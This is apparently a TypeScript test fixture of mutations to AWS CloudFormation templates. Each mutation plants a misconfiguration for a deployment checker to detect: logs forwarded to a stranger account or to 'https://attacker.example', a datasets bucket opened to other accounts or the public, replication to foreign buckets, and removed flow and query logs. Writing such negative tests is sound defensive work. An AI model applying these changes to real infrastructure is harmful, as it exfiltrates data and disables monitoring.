import type { Json } from '../../../support/deployment';
import { type Mutations, STRANGER, type Templates } from './templates';

const statements = (t: Templates): Json[] =>
  t.one('AWS::S3::BucketPolicy', /^Datasets/).properties.PolicyDocument.Statement;
const allow = (t: Templates, statement: Json) =>
  statements(t).push({
    Effect: 'Allow',
    Action: 's3:GetObject',
    Resource: 'arn:aws:s3:::bi-datasets-production/*',
    ...statement,
  });
const replicate = (t: Templates, destination: Json) =>
  (t.datasets.properties.ReplicationConfiguration = {
    Role: 'arn',
    Rules: [{ Status: 'Enabled', Destination: destination }],
  });
const group = (t: Templates): Json => t.container.LogConfiguration.Options['awslogs-group'];

export const DATA: Mutations = {
  E21: {
    "the task's log goes to somebody else": t =>
      t.add('service', 'AWS::Logs::SubscriptionFilter', {
        LogGroupName: group(t),
        FilterPattern: '',
        DestinationArn: `arn:aws:logs:ap-northeast-1:${STRANGER}:destination:theirs`,
      }),
    "the task's log goes somewhere that a parameter names": t =>
      t.add('service', 'AWS::Logs::SubscriptionFilter', {
        LogGroupName: '/ecs/bi-production-executor',
        FilterPattern: '',
        DestinationArn: { Ref: 'ApiImageDigest' },
      }),
    'every log of the account goes somewhere': t =>
      t.add('service', 'AWS::Logs::AccountPolicy', {
        PolicyName: 'all',
        PolicyType: 'SUBSCRIPTION_FILTER_POLICY',
        PolicyDocument: '{}',
      }),
    'the log goes to another address': t =>
      (t.container.LogConfiguration.Options['awslogs-endpoint'] = 'https://attacker.example'),
  },
  E24: {
    'another account may read the bucket': t => allow(t, { Principal: { AWS: STRANGER } }),
    'a role of another account may read the bucket': t =>
      allow(t, { Principal: { AWS: `arn:aws:iam::${STRANGER}:role/reader` } }),
    'anybody may read the bucket': t => allow(t, { Principal: '*' }),
    'anybody in an organisation may read the bucket': t =>
      allow(t, { Principal: '*', Condition: { StringEquals: { 'aws:PrincipalOrgID': 'o-0123456789' } } }),
    'everybody but one may read the bucket': t => {
      statements(t).push({
        Effect: 'Allow',
        NotPrincipal: { AWS: STRANGER },
        Action: 's3:GetObject',
        Resource: '*',
      });
    },
    'another account may read the bucket, in one branch': t =>
      statements(t).push({
        'Fn::If': [
          t.undecided('data'),
          { Effect: 'Allow', Principal: { AWS: STRANGER }, Action: 's3:*', Resource: '*' },
          { Ref: 'AWS::NoValue' },
        ],
      }),
    'a second bucket policy': t =>
      t.add('data', 'AWS::S3::BucketPolicy', {
        Bucket: 'bi-datasets-production',
        PolicyDocument: {
          Statement: [
            { Effect: 'Allow', Principal: { AWS: STRANGER }, Action: 's3:GetObject', Resource: '*' },
          ],
        },
      }),
    'CloudFront publishes the bucket': t =>
      allow(t, {
        Principal: { Service: 'cloudfront.amazonaws.com' },
        Condition: { StringEquals: { 'AWS:SourceArn': 'arn' } },
      }),
    'an access point for another account': t =>
      t.add('data', 'AWS::S3::AccessPoint', {
        Bucket: { Ref: t.datasets.id },
        Policy: {
          Statement: [
            { Effect: 'Allow', Principal: { AWS: STRANGER }, Action: 's3:GetObject', Resource: '*' },
          ],
        },
      }),
    'an access point in several Regions': t =>
      t.add('data', 'AWS::S3::MultiRegionAccessPoint', { Regions: [{ Bucket: { Ref: t.datasets.id } }] }),
    'copies to another account': t => replicate(t, { Bucket: 'arn:aws:s3:::theirs', Account: STRANGER }),
    'copies to a bucket that is not in the templates': t =>
      replicate(t, { Bucket: 'arn:aws:s3:::somewhere' }),
    'an inventory for another account': t =>
      (t.datasets.properties.InventoryConfigurations = [
        {
          Id: 'all',
          Enabled: true,
          Destination: { BucketArn: 'arn:aws:s3:::theirs', BucketAccountId: STRANGER, Format: 'CSV' },
        },
      ]),
    'public policies are not blocked': t =>
      (t.datasets.properties.PublicAccessBlockConfiguration.BlockPublicPolicy = false),
    'no block of public access': t => delete t.datasets.properties.PublicAccessBlockConfiguration,
    'a public access-control list': t => (t.datasets.properties.AccessControl = 'PublicRead'),
    'a website': t => (t.datasets.properties.WebsiteConfiguration = { IndexDocument: 'index.html' }),
    'a bucket that is not in the templates': t => {
      t.remove(t.one('AWS::S3::BucketPolicy', /^Datasets/));
      t.remove(t.datasets);
    },
  },
  E25: {
    'no flow log': t => t.remove(t.one('AWS::EC2::FlowLog')),
    'a flow log of what is accepted': t => (t.one('AWS::EC2::FlowLog').properties.TrafficType = 'ACCEPT'),
    'no query log': t => t.remove(t.one('AWS::Route53Resolver::ResolverQueryLoggingConfigAssociation')),
    'a query log under a condition': t =>
      Object.assign(t.one('AWS::Route53Resolver::ResolverQueryLoggingConfigAssociation').resource, {
        Condition: t.undecided('network'),
      }),
  },
};
